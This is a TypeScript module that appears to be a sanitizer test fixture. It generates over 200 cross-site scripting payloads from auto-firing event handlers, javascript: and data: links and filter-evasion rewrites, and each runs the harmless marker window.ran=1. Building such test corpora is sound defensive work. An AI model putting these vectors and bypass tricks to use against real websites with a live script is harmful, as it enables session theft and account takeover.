/** Handlers that fire without anybody doing anything, on elements that have them. */
const elements = [
  '<img src=x onerror=RUN>',
  '<image src=x onerror=RUN>',
  '<svg onload=RUN>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributeName=x>',
  '<svg><script>RUN</script></svg>',
  '<script>RUN</script>',
  '<script src=data:text/javascript,RUN></script>',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<iframe src=javascript:RUN></iframe>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<object data=javascript:RUN></object>',
  '<embed src=javascript:RUN>',
  '<video><source onerror=RUN></video>',
  '<video src=x onerror=RUN></video>',
  '<audio src=x onerror=RUN></audio>',
  '<details open ontoggle=RUN>x</details>',
  '<input autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<select autofocus onfocus=RUN></select>',
  '<a autofocus tabindex=1 onfocus=RUN>x</a>',
  '<marquee onstart=RUN>x</marquee>',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<style onload=RUN></style>',
  '<style>@import "javascript:RUN";</style>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<base href="javascript:RUN//">',
  '<form action=javascript:RUN><button autofocus>x</button></form>',
  '<math><mi xlink:href="javascript:RUN">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  '<template><img src=x onerror=RUN></template>',
  '<p style="background:url(javascript:RUN)">x</p>',
  '<p style="animation-name:x" onanimationstart=RUN>x</p>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=RUN>"></svg>',
  '<isindex type=image src=x onerror=RUN>',
  '<xss onclick=RUN contenteditable autofocus onfocus=RUN>x</xss>',
  '<object type="text/x-scriptlet" data="x" onerror=RUN></object>',
];

/** Ways of writing the same that slip past a filter that looks for letters. */
const disguises: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.toUpperCase().replaceAll('WINDOW.RAN=1', 'window.ran=1'),
  (payload) => payload.replace('<', '<x><'),
  (payload) => `"'><!--${'-->'}${payload}`,
  (payload) => payload.replaceAll(' on', '/on').replaceAll('=', ' = ').replaceAll('window.ran = 1', 'window.ran=1'),
];

/** Addresses that would run when followed; each as a link. */
const links = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  '\u0001javascript:RUN',
  'javascript&colon;RUN',
  '&#106;avascript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=',
  'vbscript:RUN',
  'view-source:javascript:RUN',
  'blob:javascript:RUN',
].map((address) => `<a href="${address}">x</a>`);

/** More than 200 attempts to run `window.ran=1`. */
export const xssPayloads: readonly string[] = [
  ...elements.flatMap((element) => disguises.map((disguise) => disguise(element))),
  ...links,
].map((payload) => payload.replaceAll('RUN', 'window.ran=1'));

/** Every element and link once, each disguise in turn. */
export const xssSamples: readonly string[] = [
  ...elements.map((element, index) => (disguises[index % disguises.length] ?? String)(element)),
  ...links,
].map((payload) => payload.replaceAll('RUN', 'window.ran=1'));
